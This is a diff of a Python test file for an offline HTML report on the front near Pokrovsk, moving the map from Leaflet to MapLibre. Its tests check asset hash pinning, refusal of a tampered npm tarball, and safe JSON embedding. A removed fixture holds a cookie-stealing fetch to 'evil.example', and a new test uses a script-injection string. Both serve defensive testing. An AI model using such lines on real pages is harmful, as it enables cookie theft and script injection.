@@ -1,10 +1,13 @@
-"""HTML report: self-contained, offline, and working in a real (headless) browser."""
+"""HTML report: the city page with its data embedded, self-contained, offline, and working
+in a real (headless) browser."""
 
 from __future__ import annotations
 
-import html
+import json
 import re
 import shutil
+import stat
+import tarfile
 import tempfile
 import time
 from html.parser import HTMLParser
@@ -13,14 +16,15 @@ from pathlib import Path
 import pytest
 
 from supplyline.errors import SupplylineError
+from supplyline.viz import maplibre as ml
 from supplyline.viz import report as rp
 
 ROOT = Path(__file__).resolve().parents[1]
-ARTIFACTS = ROOT / "test-artifacts"
 CHROMIUM = Path("/usr/bin/chromium")
-CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--disable-quic",
-                 "--no-first-run", "--disable-background-networking",
-                 "--disable-component-update", "--disable-sync"]
+CHROMIUM_ARGS = ["--headless", "--no-sandbox", "--disable-gpu", "--use-gl=swiftshader",
+                 "--enable-unsafe-swiftshader", "--disable-quic", "--no-first-run",
+                 "--disable-background-networking", "--disable-component-update",
+                 "--disable-sync"]
 CITY, START, END = "Pokrovsk", "2025-09-01", "2025-11-20"
 MAX_BYTES = 5 * 1024 * 1024
 DATE_RE = re.compile(r"\d{4}-\d{2}-\d{2}")
@@ -34,72 +38,62 @@ def test_frame_indices_include_last_day():
     assert rp._frame_indices(5, 1) == [0, 1, 2, 3, 4]
 
 
-def test_nice_ticks():
-    assert rp._nice_ticks(0, 100) == [0, 25, 50, 75, 100]
-    assert rp._nice_ticks(0, 5.4) == [0, 2, 4]
-
-
-def test_offline_css_drops_image_urls():
-    css = ".a{background-image:url(images/layers.png)} .b{behavior:url(#default#VML)}"
-    out = rp._offline_css(css)
-    assert "url(" not in out and "images/" not in out
-
-
-def test_missing_leaflet_is_a_one_line_error(tmp_path, monkeypatch):
-    monkeypatch.setattr(rp, "asset_dirs", lambda: [tmp_path / "a", tmp_path / "b"])
+def test_missing_maplibre_is_a_one_line_error(tmp_path, monkeypatch):
+    monkeypatch.setattr(ml, "asset_dirs", lambda: [tmp_path / "a", tmp_path / "b"])
     with pytest.raises(SupplylineError) as ei:
-        rp.load_leaflet(fetch=False)
+        ml.load_maplibre(fetch=False)
     msg = str(ei.value)
-    assert "\n" not in msg and "fetch_assets.py" in msg and "Leaflet 1.9.4" in msg
+    assert "\n" not in msg and "fetch_assets.py" in msg and "MapLibre GL JS 5.24.1" in msg
     # and with a fetch that cannot work (no npm): still one line, saying why
-    monkeypatch.setattr(rp.shutil, "which", lambda name: None)
+    monkeypatch.setattr(ml.shutil, "which", lambda name: None)
     with pytest.raises(SupplylineError, match="npm not found") as ei:
-        rp.load_leaflet(fetch=True)
+        ml.load_maplibre(fetch=True)
     assert "\n" not in str(ei.value)
 
 
-def test_leaflet_found_in_asset_dir(tmp_path, monkeypatch):
-    import hashlib
-
+def test_maplibre_files_are_checked_before_use(tmp_path, monkeypatch):
     d = tmp_path / "assets"
     d.mkdir()
-    (d / "leaflet.js").write_text("/* @preserve\n * Leaflet 1.9.4, a JS library */\nvar L;")
-    (d / "leaflet.css").write_text(".leaflet-pane{z-index:400}\n" * 60
-                                   + ".x{background:url(images/layers.png)}")
-    pins = {n: hashlib.sha256((d / n).read_bytes()).hexdigest()
-            for n in ("leaflet.js", "leaflet.css")}
-    monkeypatch.setattr(rp, "LEAFLET_SHA256", pins)
-    monkeypatch.setattr(rp, "asset_dirs", lambda: [tmp_path / "none", d])
-    js, css = rp.load_leaflet(fetch=False)
-    assert "Leaflet 1.9.4" in js and "url(" not in css
-    (d / "leaflet.js").write_text("/* Leaflet 1.7.1, old */")  # wrong version: not used
+    for name, _ in ml.MAPLIBRE_FILES.values():  # right names, wrong bytes
+        (d / name).write_text("/* MapLibre GL JS v5.24.1 (tampered) */")
+    monkeypatch.setattr(ml, "asset_dirs", lambda: [tmp_path / "none", d])
+    assert not ml.verified(d)
+    with pytest.raises(SupplylineError, match="not found"):
+        ml.load_maplibre(fetch=False)
+    real = next((p for p in (ml.VENDOR_DIR, ml.user_cache_dir() / "assets")
+                 if ml.verified(p)), None)
+    if real is None:
+        pytest.skip("MapLibre not fetched (python scripts/fetch_assets.py)")
+    for name, _ in ml.MAPLIBRE_FILES.values():
+        shutil.copyfile(real / name, d / name)
+    assert ml.load_maplibre(fetch=False).js.startswith(b"/**\n * MapLibre GL JS")
+    with open(d / "maplibre-gl.js", "ab") as f:  # one byte more: refused
+        f.write(b" ")
     with pytest.raises(SupplylineError):
-        rp.load_leaflet(fetch=False)
+        ml.load_maplibre(fetch=False)
 
 
-def test_leaflet_with_the_right_header_but_other_bytes_is_not_inlined(tmp_path, monkeypatch):
-    """Only files whose SHA-256 is the pinned one are inlined: a file that merely starts
-    like Leaflet 1.9.4 (the old check read its header) is refused, in one line."""
-    d = tmp_path / "assets"
-    d.mkdir()
-    (d / "leaflet.js").write_text("/* @preserve\n * Leaflet 1.9.4, a JS library */\n"
-                                  "fetch('https://evil.example/?c=' + document.cookie);")
-    (d / "leaflet.css").write_text(".leaflet-pane{z-index:400}\n" * 60)
-    monkeypatch.setattr(rp, "asset_dirs", lambda: [d])
-    assert not rp._valid_leaflet(d)
+def test_a_tarball_that_does_not_match_its_pin_is_refused(tmp_path, monkeypatch):
+    """A fake `npm` that packs the right file names with other bytes."""
+    pkg = tmp_path / "pkg"
+    (pkg / "package" / "dist").mkdir(parents=True)
+    for member in ml.MAPLIBRE_FILES:
+        (pkg / member).write_text("not maplibre")
+    tgz = tmp_path / "maplibre-gl-5.24.1.tgz"
+    with tarfile.open(tgz, "w:gz") as tar:
+        tar.add(pkg / "package", arcname="package")
+    npm = tmp_path / "bin" / "npm"
+    npm.parent.mkdir()
+    npm.write_text(f"#!/bin/sh\ncp {tgz} .\n")
+    npm.chmod(npm.stat().st_mode | stat.S_IEXEC)
+    monkeypatch.setenv("PATH", f"{npm.parent}:/usr/bin:/bin")
+    dest = tmp_path / "dest"
     with pytest.raises(SupplylineError, match="SHA-256") as ei:
-        rp.load_leaflet(fetch=False)
+        ml.fetch_maplibre(dest)
     assert "\n" not in str(ei.value)
-
-
-def test_vendored_leaflet_matches_its_pin():
-    """The files scripts/fetch_assets.py installed are the pinned ones (skipped when the
-    assets were not fetched)."""
-    if not (rp.VENDOR_DIR / "leaflet.js").exists():
-        pytest.skip("Leaflet not vendored (run scripts/fetch_assets.py)")
-    assert rp._valid_leaflet(rp.VENDOR_DIR)
-    js, css = rp.load_leaflet(fetch=False)
-    assert "Leaflet 1.9.4" in js[:400] and len(css) > 1000
+    assert not dest.exists() or not any(dest.iterdir())  # nothing unchecked was written
+    with pytest.raises(SupplylineError, match="only 5.24.1 is pinned"):
+        ml.fetch_maplibre(dest, version="9.9.9")
 
 
 def test_output_must_be_html(tmp_path):
@@ -107,6 +101,15 @@ def test_output_must_be_html(tmp_path):
         rp.build_report(None, CITY, START, END, tmp_path / "r.pdf")
     with pytest.raises(SupplylineError, match="step"):
         rp.build_report(None, CITY, START, END, tmp_path / "r.html", step_days=0)
+
+
+def test_json_in_pages_cannot_close_its_script():
+    from supplyline.viz.pages import json_script
+
+    s = json_script("d", {"name": "</script><script>alert(1)</script><!--", "x": "\u2028"})
+    assert "</script><script>" not in s and "<!--" not in s.split(">", 1)[1]
+    body = s.split(">", 1)[1].rsplit("</script>", 1)[0]
+    assert json.loads(body)["name"] == "</script><script>alert(1)</script><!--"
 
 
 # ------------------------------------------------------------------ real data
@@ -125,6 +128,13 @@ class _Refs(HTMLParser):
                 self.refs.append((tag, k, v))
 
 
+def _embedded(text: str) -> dict:
+    m = re.search(r'<script id="supplyline-data" type="application/json">(.*?)</script>',
+                  text, re.S)
+    assert m
+    return json.loads(m.group(1))
+
+
 @pytest.fixture(scope="module")
 def built(ws, tmp_path_factory):
     out_dir = tmp_path_factory.mktemp("report")
@@ -140,6 +150,7 @@ def test_report_is_one_self_contained_file(built):
     print(f"report built in {seconds:.1f} s: {res['bytes'] / 1e6:.2f} MB, {res['dates']} dates, "
           f"timings {res['seconds']}")
     assert [p.name for p in out.parent.iterdir()] == [out.name]  # nothing else, no temp file
+    assert out.stat().st_mode & 0o777 == 0o644
     assert res["path"] == str(out) and res["bytes"] == out.stat().st_size
     assert res["bytes"] < MAX_BYTES
     assert res["dates"] == 13  # 81 days, every 7th day and the last one
@@ -154,35 +165,39 @@ def test_report_is_one_self_contained_file(built):
     assert [r for r in p.refs if r[0] == "link"] == [("link", "href", "data:,")]
     assert not re.search(r"url\(\s*['\"]?(https?:)?//", text, re.I)
     assert "@import" not in text
-    # Leaflet inlined, the map and the slider are there
-    assert "Leaflet 1.9.4" in text and "L.map(" in text
-    assert 'id="map"' in text and 'id="slider"' in text
+    # MapLibre inlined (verified bytes), the page's map and slider are there
+    assert ml.load_maplibre(fetch=False).js.decode() in text
+    assert "Leaflet" not in text
+    assert 'id="map"' in text and 'id="slider"' in text and "maplibregl.Map(" in text
     for needle in ("DeepStateMap", "EuroGeographics", "OpenStreetMap", "GeoNames"):
         assert needle in text
-    assert text.count('<svg class="chart"') >= 5
+    data = _embedded(text)
+    assert data["frame_dates"][0] == START and data["frame_dates"][-1] == END
+    assert sorted(data["frames"]) == data["frame_dates"]
+    n = len(data["page"]["base"]["lines"]["kind"])
+    assert n == res["lines"] > 1000
+    for d, day in data["frames"].items():
+        assert day["date"] == d and len(day["lines"]["band"]) == n
 
 
 @pytest.mark.realdata
 def test_report_lists_events_and_forecasts(built, ws):
     res, out, _ = built
-    text = out.read_text(encoding="utf-8")
-    events = re.search(r'<table id="events">.*?</table>', text, re.S)
-    assert events and res["events"] > 0
-    rows = re.findall(r"<tr data-date=\"([\d-]+)\">(.*?)</tr>", events.group(0), re.S)
-    assert len(rows) == res["events"]
-    assert any("centre held" in r[1] for r in rows)  # Pokrovsk's centre held in the range
-    assert any("route cut" in r[1] for r in rows)
-    table = re.search(r'<table id="forecasts">.*?</table>', text, re.S)
-    assert table and res["forecasts"]
-    body = table.group(0).split("<tbody>")[1]
-    frows = re.findall(r'<tr class="([\w-]+)">(.*?)</tr>', body, re.S)
-    assert len(frows) == len(res["forecasts"])
-    for (cls, row), fc in zip(frows, res["forecasts"], strict=True):
-        assert html.escape(fc["quantity"]) in row
-        if not fc["shown"]:
-            assert cls == "withheld-row" and "withheld" in row
-            assert html.escape(fc["withheld"]) in row
-            assert not DATE_RE.search(row)  # a withheld forecast never shows a date
+    page = _embedded(out.read_text(encoding="utf-8"))["page"]
+    assert len(page["events"]) == res["events"] > 0
+    kinds = {e["kind"] for e in page["events"]}
+    assert "centre_held" in kinds  # Pokrovsk's centre held in the range
+    assert "route_cut" in kinds
+    assert all(START <= e["date"] <= END for e in page["events"])
+    assert [f["quantity"] for f in page["forecasts"]] == [f["quantity"] for f in res["forecasts"]]
+    assert len(page["series"]["date"]) == 81
+    # the page's figures are the timeline's
+    from supplyline.analysis import queries
+
+    i = page["series"]["date"].index("2025-10-01")
+    st = queries.status(ws, CITY, "2025-10-01")
+    assert page["series"]["distance_to_held_km"][i] == pytest.approx(st.distance_to_held_km,
+                                                                     abs=0.01)
 
 
 def _chromium_or_skip():
@@ -196,7 +211,8 @@ def _chromium_or_skip():
 
 
 @pytest.mark.realdata
-def test_report_works_offline_in_chromium(built):
+@pytest.mark.browser
+def test_report_works_offline_in_chromium(built, tmp_path):
     sync_playwright = _chromium_or_skip()
     res, out, _ = built
     external: list[str] = []
@@ -205,7 +221,7 @@ def test_report_works_offline_in_chromium(built):
 
     def route(r):
         url = r.request.url
-        if url.startswith(("file:", "data:", "about:")):
+        if url.startswith(("file:", "data:", "about:", "blob:")):
             r.continue_()
         else:
             external.append(url)
@@ -228,52 +244,60 @@ def test_report_works_offline_in_chromium(built):
                 page.on("console", on_console)
                 page.on("pageerror", lambda e: errors.append(f"pageerror: {e}"))
                 page.goto(out.as_uri())
-                page.wait_for_selector("body[data-ready='1']", timeout=20_000)
+                page.wait_for_selector(f"body[data-date='{END}']", timeout=30_000)
 
                 def state() -> dict:
                     return page.evaluate("""() => ({
                       label: document.getElementById('date-label').textContent,
-                      held: [...document.querySelectorAll('.leaflet-held-pane path')]
-                              .map(p => p.getAttribute('d')).join('|'),
-                      lines: [...document.querySelectorAll('.leaflet-lines-pane path')]
-                              .map(p => p.getAttribute('stroke')).join('|'),
+                      held: JSON.stringify(supplylineMap.getSource('held').serialize().data),
+                      lines: supplylineMap.getSource('lines').serialize().data.features
+                               .map(f => f.properties.b).join(''),
                       cursor: document.querySelector('svg.chart .cursor').getAttribute('x1'),
                       future: document.querySelectorAll('#events tr.future').length,
+                      events: document.querySelectorAll('#events tbody tr').length,
+                      withheld: [...document.querySelectorAll('#forecasts tr.withheld-row')]
+                                  .map(r => r.textContent),
                     })""")
 
-                refs = page.eval_on_selector_all(  # the live DOM, Leaflet's own nodes too
+                refs = page.eval_on_selector_all(  # the live DOM, MapLibre's own nodes too
                     "[src], [href]", "els => els.map(e => e.getAttribute('src') || "
                     "e.getAttribute('href'))")
                 assert not [r for r in refs if re.match(r"^\s*(https?:)?//", r, re.I)]
-                n_paths = page.locator("#map svg path").count()
-                assert n_paths > 50, n_paths
+                assert page.evaluate(
+                    "() => supplylineMap.queryRenderedFeatures({layers: ['held']}).length") > 0
                 charts = page.eval_on_selector_all(  # drawn series per chart
                     "svg.chart", "els => els.map(e => e.querySelectorAll('.series').length)")
                 assert len(charts) >= 5 and min(charts) >= 1, charts
                 last = state()
-                assert last["label"].startswith(END) and last["held"] and last["future"] == 0
-                ARTIFACTS.mkdir(exist_ok=True)
-                page.screenshot(path=str(ARTIFACTS / "report-pokrovsk.png"), full_page=True)
+                assert last["label"] == END and last["held"] and last["future"] == 0
+                assert last["events"] == res["events"]
+                shown = [f for f in res["forecasts"] if not f["shown"]]
+                assert len(last["withheld"]) == len(shown)
+                assert not any(DATE_RE.search(r) for r in last["withheld"])  # never a date
+                page.screenshot(path=str(tmp_path / "report-pokrovsk.png"), full_page=True)
 
                 page.evaluate("""() => { const s = document.getElementById('slider');
                     s.value = '0'; s.dispatchEvent(new Event('input', {bubbles: true})); }""")
+                page.wait_for_selector(f"body[data-date='{START}']")
                 first = state()
-                assert first["label"].startswith(START)
+                assert first["label"] == START
                 assert first["held"] and first["held"] != last["held"]  # the front moved
-                assert first["lines"] != last["lines"]  # road / rail colours follow the date
+                assert first["lines"] != last["lines"]  # road / rail bands follow the date
                 assert first["cursor"] != last["cursor"]
                 assert first["future"] == res["events"]  # every event is after 1 September
+                assert page.evaluate("""() => supplylineMap.queryRenderedFeatures(
+                    {layers: ['routes-safest', 'routes-peacetime']}).length""") > 0
 
                 page.focus("#slider")  # the keyboard moves it too
                 page.keyboard.press("ArrowRight")
-                assert state()["label"].startswith("2025-09-08")
-                page.get_by_role("button", name="City + hubs").click()
-                page.wait_for_timeout(300)
-                page.screenshot(path=str(ARTIFACTS / "report-pokrovsk-first-day.png"))
+                page.wait_for_selector("body[data-date='2025-09-08']")
+                assert state()["label"] == "2025-09-08"
+                assert page.url.endswith("#date=2025-09-08")  # a permalink of the date
+                page.screenshot(path=str(tmp_path / "report-pokrovsk-second-date.png"))
             finally:
                 ctx.close()
     finally:
         shutil.rmtree(udd, ignore_errors=True)
     assert external == []
-    assert [u for u in seen if not u.startswith(("file:", "data:", "about:"))] == []
+    assert [u for u in seen if not u.startswith(("file:", "data:", "about:", "blob:"))] == []
     assert errors == []
